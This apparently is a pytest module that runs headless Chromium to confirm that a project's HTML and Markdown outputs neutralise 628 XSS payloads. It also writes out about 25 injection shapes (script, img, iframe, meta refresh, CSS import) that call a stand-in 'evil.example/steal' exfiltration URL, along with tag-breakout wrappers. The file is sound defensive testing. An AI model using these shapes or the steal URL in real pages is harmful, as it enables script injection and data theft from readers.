"""What a real browser does with hostile editions: nothing. Run with `-m slow`; needs Chromium."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from nutgraf.editions.html import html
from nutgraf.editions.markdown import markdown
from nutgraf.editions.model import Edition
from tests.editions.browser import Behaviour, Browser, find_chromium
from tests.editions.hostile import hostile

pytestmark = pytest.mark.threat("P6")


SEED = 628
SAMPLE = 200
EVIL = "https://evil.example/steal?what=the-desk-said"
SHAPES = (
    "![x]({0})", "[x]({0})", "[x]: {0}\n\n![x]", "![x][y]\n\n[y]: {0}", "<{0}>", "{0}",
    "![](<{0}>)", "[![x]({0})]({0})", "<img src='{0}'>", "<img srcset='{0} 2x'>",
    "<link rel=stylesheet href='{0}'>", "<link rel=prefetch href='{0}'>",
    "<link rel=preconnect href='{0}'>", "<style>@import '{0}';</style>",
    "<p style=\"background:url('{0}')\">x</p>", "<video poster='{0}'></video>",
    "<audio src='{0}' autoplay></audio>", "<iframe src='{0}'></iframe>", "<object data='{0}'></object>",
    "<embed src='{0}'>", "<script src='{0}'></script>", "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href='{0}'><img src=y>", "<svg><image href='{0}'/></svg>", "<input type=image src='{0}'>",
)  # fmt: skip
WRAPPED = ("{0}", "Vireo Labs {0} Heron 2", '"><p>{0}', "</mark></title></style>{0}<!--")


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    path = find_chromium()
    if path is None:
        pytest.skip("no Chromium on this machine")
    with Browser(path, tmp_path_factory.mktemp("browser")) as opened:
        yield opened


@pytest.fixture(scope="module")
def sample(browser: Browser, shared_data: Path) -> list[str]:
    """200 of the 628 payloads: all that act in this browser when unescaped, and others by chance."""
    file = shared_data / "adversarial" / "xss-payloads-628.json"
    payloads = [
        one if isinstance(one, str) else json.dumps(one)
        for one in json.loads(file.read_text("utf-8"))
    ]
    did = [browser.show(f"<!doctype html><body>{one}") for one in payloads]
    live = [one for one, done in zip(payloads, did, strict=True) if done.acted or done.acting]
    fired = sum(one.acted for one in did)
    print(f"unescaped: {fired} of {len(payloads)} fired, {len(live)} fired or could act")
    assert fired > 30 and len(live) > 90, "the measure itself: unescaped, payloads do fire"
    others = [one for one in payloads if one not in live]
    return [*live, *random.Random(SEED).sample(others, len(others))][:SAMPLE]


def bare_page(edition: Edition) -> str:
    """The page without its policy: escaping alone has to hold."""
    page = html(edition).decode("utf-8")
    bare, many = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert many == 1
    return bare


def shown_markdown(edition: Edition) -> str:
    """The Markdown as a reader that lets HTML through shows it."""
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return f"<!doctype html><body>{reader.render(markdown(edition).decode('utf-8'))}"


SURFACES: tuple[Callable[[Edition], str], ...] = (
    bare_page,
    shown_markdown,
    lambda edition: html(edition).decode("utf-8"),
)


def behaviours(browser: Browser, words: list[str]) -> Iterator[tuple[str, Behaviour]]:
    """What each surface of an edition of each of the words did."""
    for one in words:
        edition = hostile([one]).edition
        for surface in SURFACES:
            yield one, browser.show(surface(edition))


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_none_of_200_payloads_fires(
    browser: Browser, sample: list[str], record_property: Callable[[str, object], None]
) -> None:
    shown = list(behaviours(browser, sample))
    assert len(shown) == SAMPLE * len(SURFACES)
    assert [words for words, did in shown if did.acted or did.acting] == []
    assert [did.requests for _, did in shown if did.requests] == []
    record_property(
        "number", f"{SAMPLE} payloads on {len(SURFACES)} surfaces in a browser, 0 fired"
    )


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_no_page_sends_anything_anywhere(browser: Browser) -> None:
    words = [wrap.format(shape.format(EVIL)) for shape in SHAPES for wrap in WRAPPED]
    assert len(set(words)) == 100
    sent = [one for one, did in behaviours(browser, words) if did.requests or did.acted]
    assert sent == []
    control = sum(bool(browser.show(f"<!doctype html><body>{one}").requests) for one in words)
    print(f"unescaped: {control} of {len(words)} asked for an address")
    assert control > 40
